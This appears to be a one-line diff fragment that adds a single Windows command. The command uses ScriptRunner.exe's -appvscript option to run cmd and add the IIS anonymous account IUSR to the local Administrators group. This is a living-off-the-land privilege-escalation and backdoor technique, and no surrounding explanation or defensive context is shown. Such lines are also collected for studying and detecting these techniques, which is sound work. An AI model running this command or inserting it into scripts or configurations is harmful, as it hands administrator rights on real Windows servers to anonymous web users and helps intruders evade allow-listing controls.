@@ -1,0 +1,1 @@
+ScriptRunner.exe -appvscript cmd /c net localgroup Administrators IUSR /add
